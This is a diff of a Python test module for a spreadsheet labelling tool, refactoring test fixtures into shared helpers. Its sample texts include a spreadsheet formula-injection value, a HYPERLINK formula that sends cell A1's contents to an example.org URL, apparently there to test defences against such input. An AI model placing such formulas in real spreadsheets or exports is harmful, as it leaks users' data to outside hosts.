@@ -7,25 +7,22 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from label_run import read_cells, write_cells
+from label_run import drawn_answer, read_cells, write_cells
 
 from epistemic_stance.foundation.errors import InputError
 from epistemic_stance.labelling.sheet import Marks, Row, read_sheet, write_sheet
 from epistemic_stance.records.labels import DrawnAnswer
 from epistemic_stance.records.written import Pattern
 
+RULE = {
+    "group": "sounds",
+    "meaning": "It hums.",
+    "rules": [{"id": "r", "match": "hum"}],
+    "hits": ["hum"],
+    "misses": ["no"],
+}
 PATTERNS = {
-    name: Pattern.model_validate(
-        {
-            "name": name,
-            "group": "sounds",
-            "meaning": "It hums.",
-            "categories": categories,
-            "rules": [{"id": "r", "match": "hum"}],
-            "hits": ["hum"],
-            "misses": ["no"],
-        }
-    )
+    name: Pattern.model_validate({"name": name, "categories": categories, **RULE})
     for name, categories in (("humming", []), ("singing", []), ("guessing", ["sums"]))
 }
 EVIL = '=HYPERLINK("http://example.org?leak="&A1)'
@@ -33,23 +30,7 @@ TEXTS = ["I hum.", f"{EVIL}\nand, more; \t“so”", "'quoted'"]
 
 
 def drawn(*responses: str) -> list[DrawnAnswer]:
-    return [
-        DrawnAnswer(
-            id=f"a{number}",
-            model="base",
-            weights_digest=None,
-            question_set="talk",
-            line=number,
-            category="noise",
-            question="What is heard?",
-            temperature=0.7,
-            iteration=1,
-            response=response,
-            stratum="none",
-            weight=1.0,
-        )
-        for number, response in enumerate(responses, start=1)
-    ]
+    return [drawn_answer(number, response) for number, response in enumerate(responses, start=1)]
 
 
 @pytest.fixture
